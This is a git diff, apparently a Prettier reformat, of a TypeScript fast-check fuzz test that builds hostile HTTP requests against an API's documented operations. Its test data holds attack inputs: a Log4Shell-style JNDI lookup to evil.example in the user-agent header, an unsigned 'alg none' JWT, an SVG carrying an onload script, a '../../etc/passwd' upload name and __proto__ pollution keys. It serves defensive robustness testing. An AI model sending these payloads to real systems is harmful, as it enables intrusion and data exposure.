@@ -27,7 +27,7 @@ function oddPaths(operation: Operation): fc.Arbitrary<Variation> {
   const changes: Record<string, (path: string) => string> = {
     'a slash more': (path) => `${path}/`,
     'two slashes': (path) => path.replace('/', '//'),
-    'capitals': (path) => path.toUpperCase(),
+    capitals: (path) => path.toUpperCase(),
     'a dot segment': (path) => path.replace(/\/([^/]+)$/, '/./$1'),
     'a parameter of a segment': (path) => `${path};jsessionid=1`,
     'an encoded letter': (path) => path.replace('a', '%61'),
@@ -46,20 +46,41 @@ function hostileQuery(operation: Operation): fc.Arbitrary<Variation> {
   const documented = operation.parameters.filter((each) => each.in === 'query').map(({ name }) => name);
   const names = fc.constantFrom(...documented, ...documented, 'q', '_');
   const single = fc.tuple(names, fc.constantFrom(...ODD_ENCODED)).map(([name, text]) => `${name}=${text}`);
-  const shapes = names.chain((name) => fc.constantFrom(`${name}=1&${name}=2`, `${name}[]=1`, `${name}[a]=1`, `${name}[__proto__][x]=1`, name, `${name}=`, `${name}=${'x'.repeat(6_000)}`));
-  const many = fc.constant(Array.from({ length: 300 }, (_, index) => `p${index}=1`).join('&'));
-  return fc.oneof({ weight: 6, arbitrary: single }, { weight: 3, arbitrary: shapes }, { weight: 1, arbitrary: many }).map((search) =>
-    ofWire(operation, 'hostile', `query: ${search.slice(0, 40)}`, (request) => ({
-      ...request,
-      target: `${request.target}${request.target.includes('?') ? '&' : '?'}${search}`,
-    })),
+  const shapes = names.chain((name) =>
+    fc.constantFrom(
+      `${name}=1&${name}=2`,
+      `${name}[]=1`,
+      `${name}[a]=1`,
+      `${name}[__proto__][x]=1`,
+      name,
+      `${name}=`,
+      `${name}=${'x'.repeat(6_000)}`,
+    ),
   );
+  const many = fc.constant(Array.from({ length: 300 }, (_, index) => `p${index}=1`).join('&'));
+  return fc
+    .oneof({ weight: 6, arbitrary: single }, { weight: 3, arbitrary: shapes }, { weight: 1, arbitrary: many })
+    .map((search) =>
+      ofWire(operation, 'hostile', `query: ${search.slice(0, 40)}`, (request) => ({
+        ...request,
+        target: `${request.target}${request.target.includes('?') ? '&' : '?'}${search}`,
+      })),
+    );
 }
 
 /** Values that Node sends as they are; what it refuses to send is the business of tests on raw sockets. */
 const HEADERS: Record<string, readonly string[]> = {
   accept: ['', '*/*;q=x', 'text/html', 'x'.repeat(4_000)],
-  authorization: ['', 'Bearer', 'Bearer ', 'Bearer a.b.c', 'Basic YTpi', 'bearer x', `Bearer ${'x'.repeat(6_000)}`, 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.'],
+  authorization: [
+    '',
+    'Bearer',
+    'Bearer ',
+    'Bearer a.b.c',
+    'Basic YTpi',
+    'bearer x',
+    `Bearer ${'x'.repeat(6_000)}`,
+    'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.',
+  ],
   'content-length-hint': ['-1', '99999999999'],
   cookie: ['a=b; a=c', '=', `x=${'y'.repeat(4_000)}`, '__proto__=1', 'a=%00'],
   'if-none-match': ['*', '"', 'W/"', '"x", W/"y"', '"'.repeat(500)],
@@ -70,7 +91,14 @@ const HEADERS: Record<string, readonly string[]> = {
   'user-agent': ['', '\u00ff\u00fe', 'x'.repeat(3_000), '${jndi:ldap://evil.example/a}'],
   'x-csrf-token': ['', 'x', 'x'.repeat(3_000)],
   'x-elevation-token': ['', 'x', 'x'.repeat(3_000)],
-  'x-forwarded-for': ['', 'unknown', '1.2.3.4, , 5.6.7.8', '::1', '999.999.999.999', `${'1.2.3.4, '.repeat(200)}1.2.3.4`],
+  'x-forwarded-for': [
+    '',
+    'unknown',
+    '1.2.3.4, , 5.6.7.8',
+    '::1',
+    '999.999.999.999',
+    `${'1.2.3.4, '.repeat(200)}1.2.3.4`,
+  ],
   'x-forwarded-host': ['evil.example', '', 'a, b'],
   'x-forwarded-proto': ['javascript', 'https, http', ''],
   'x-request-id': ['', 'x', '\u00e9', 'a b', 'x'.repeat(2_000)],
@@ -99,7 +127,7 @@ const BYTES: Record<string, Buffer> = {
   'bytes that are no UTF-8': Buffer.concat([Buffer.from('{"a":"'), Buffer.from([0xff, 0xc0, 0x80]), Buffer.from('"}')]),
   'an overlong NUL in a key': Buffer.from('{"a\\u0000b":1}'),
   'a half of a character': Buffer.from('{"email":"\\ud800","password":"\\udfff","name":"\\ud800"}'),
-  'NaN': Buffer.from('{"a":NaN}'),
+  NaN: Buffer.from('{"a":NaN}'),
   'a number beyond all doubles': Buffer.from('{"version":1e999,"days":-1e999}'),
   'a number of 5,000 digits': Buffer.from(`{"version":${'9'.repeat(5_000)}}`),
   'a key twice': Buffer.from('{"a":1,"a":2}'),
@@ -109,35 +137,79 @@ const BYTES: Record<string, Buffer> = {
   'objects in objects': Buffer.from(deep('{"a":', '}', 5_000)),
   'a text': Buffer.from('"text"'),
   'a number': Buffer.from('7'),
-  'null': Buffer.from('null'),
-  'true': Buffer.from('true'),
+  null: Buffer.from('null'),
+  true: Buffer.from('true'),
   'an empty list': Buffer.from('[]'),
   'a comment': Buffer.from('{} // x'),
   'one quote': Buffer.from("{'a':1}"),
-  '10,000 keys': Buffer.from(JSON.stringify(Object.fromEntries(Array.from({ length: 10_000 }, (_, index) => [`k${index}`, index])))),
+  '10,000 keys': Buffer.from(
+    JSON.stringify(Object.fromEntries(Array.from({ length: 10_000 }, (_, index) => [`k${index}`, index]))),
+  ),
   'half a megabyte of text': Buffer.from(JSON.stringify({ a: 'x'.repeat(500_000) })),
-  'spaces': Buffer.from(' '.repeat(50_000)),
+  spaces: Buffer.from(' '.repeat(50_000)),
 };
 
 function hostileBytes(operation: Operation): fc.Arbitrary<Variation> {
-  const asJson = (request: WireRequest, body: Buffer) => ({ ...request, body, headers: { ...request.headers, 'content-type': 'application/json' } });
-  const known = fc.constantFrom(...Object.entries(BYTES)).map(([label, bytes]) => ofWire(operation, 'hostile', `body: ${label}`, (request) => asJson(request, bytes)));
-  const random = fc.uint8Array({ maxLength: 200 }).map((bytes) => ofWire(operation, 'hostile', 'body: any bytes', (request) => asJson(request, Buffer.from(bytes))));
-  const cut = fc.nat().map((at) =>
-    ofWire(operation, 'hostile', 'body: cut off', (request) => ({ ...request, body: request.body?.subarray(0, at % (request.body.length + 1)) ?? Buffer.from('{') })),
+  const asJson = (request: WireRequest, body: Buffer) => ({
+    ...request,
+    body,
+    headers: { ...request.headers, 'content-type': 'application/json' },
+  });
+  const known = fc
+    .constantFrom(...Object.entries(BYTES))
+    .map(([label, bytes]) => ofWire(operation, 'hostile', `body: ${label}`, (request) => asJson(request, bytes)));
+  const random = fc
+    .uint8Array({ maxLength: 200 })
+    .map((bytes) => ofWire(operation, 'hostile', 'body: any bytes', (request) => asJson(request, Buffer.from(bytes))));
+  const cut = fc
+    .nat()
+    .map((at) =>
+      ofWire(operation, 'hostile', 'body: cut off', (request) => ({
+        ...request,
+        body: request.body?.subarray(0, at % (request.body.length + 1)) ?? Buffer.from('{'),
+      })),
+    );
+  const flipped = fc
+    .nat()
+    .map((at) =>
+      ofWire(operation, 'hostile', 'body: one byte changed', (request) => ({
+        ...request,
+        body: flip(request.body ?? Buffer.from('{}'), at),
+      })),
+    );
+  return fc.oneof(
+    { weight: 5, arbitrary: known },
+    { weight: 1, arbitrary: random },
+    { weight: 1, arbitrary: cut },
+    { weight: 1, arbitrary: flipped },
   );
-  const flipped = fc.nat().map((at) => ofWire(operation, 'hostile', 'body: one byte changed', (request) => ({ ...request, body: flip(request.body ?? Buffer.from('{}'), at) })));
-  return fc.oneof({ weight: 5, arbitrary: known }, { weight: 1, arbitrary: random }, { weight: 1, arbitrary: cut }, { weight: 1, arbitrary: flipped });
 }
 
 function flip(bytes: Buffer, at: number): Buffer {
   const copy = Buffer.from(bytes);
   const index = at % Math.max(1, copy.length);
-  copy[index] = (copy[index] ?? 0) ^ (1 << at % 8);
+  copy[index] = (copy[index] ?? 0) ^ (1 << (at % 8));
   return copy;
 }
 
-const TYPES = ['', 'text/plain', 'text/html', 'application/xml', 'application/x-www-form-urlencoded', 'multipart/form-data', 'multipart/form-data; boundary=', 'multipart/form-data; boundary=x', 'application/json; charset=utf-7', 'application/json; charset=iso-8859-1', 'application/json;', 'application/json, text/plain', 'application/jsonx', 'application/octet-stream', '\u00ff', 'x'.repeat(2_000)];
+const TYPES = [
+  '',
+  'text/plain',
+  'text/html',
+  'application/xml',
+  'application/x-www-form-urlencoded',
+  'multipart/form-data',
+  'multipart/form-data; boundary=',
+  'multipart/form-data; boundary=x',
+  'application/json; charset=utf-7',
+  'application/json; charset=iso-8859-1',
+  'application/json;',
+  'application/json, text/plain',
+  'application/jsonx',
+  'application/octet-stream',
+  '\u00ff',
+  'x'.repeat(2_000),
+];
 
 function hostileTypes(operation: Operation): fc.Arbitrary<Variation> {
   const types = fc.constantFrom(...TYPES).map((type) =>
@@ -158,12 +230,33 @@ function hostileTypes(operation: Operation): fc.Arbitrary<Variation> {
 }
 
 function hostileForms(operation: Operation): fc.Arbitrary<Variation> {
-  const bytes = fc.constantFrom(Buffer.alloc(0), Buffer.from('%PDF-1.4'), Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.from('PK\x03\x04'), Buffer.from('GIF89a'), Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), Buffer.alloc(300_000, 0x41));
-  const names = fc.constantFrom('a.pdf', '', '../../etc/passwd', 'a\u0000b.png', '\u202efdp.exe', 'x'.repeat(3_000), 'é😀.png', "a'b.png");
-  return fc.tuple(bytes, names, fc.constantFrom('application/pdf', 'image/png', 'text/html', '')).map(([content, name, type]) =>
-    ofPlan(operation, 'hostile', `file: ${name.slice(0, 30)}, ${content.length} bytes`, (plan) => {
-      const file = plan.form?.file;
-      return plan.form && file ? { ...plan, form: { ...plan.form, file: { ...file, name, type, bytes: content } } } : plan;
-    }),
+  const bytes = fc.constantFrom(
+    Buffer.alloc(0),
+    Buffer.from('%PDF-1.4'),
+    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
+    Buffer.from('PK\x03\x04'),
+    Buffer.from('GIF89a'),
+    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+    Buffer.alloc(300_000, 0x41),
   );
+  const names = fc.constantFrom(
+    'a.pdf',
+    '',
+    '../../etc/passwd',
+    'a\u0000b.png',
+    '\u202efdp.exe',
+    'x'.repeat(3_000),
+    'é😀.png',
+    "a'b.png",
+  );
+  return fc
+    .tuple(bytes, names, fc.constantFrom('application/pdf', 'image/png', 'text/html', ''))
+    .map(([content, name, type]) =>
+      ofPlan(operation, 'hostile', `file: ${name.slice(0, 30)}, ${content.length} bytes`, (plan) => {
+        const file = plan.form?.file;
+        return plan.form && file
+          ? { ...plan, form: { ...plan.form, file: { ...file, name, type, bytes: content } } }
+          : plan;
+      }),
+    );
 }
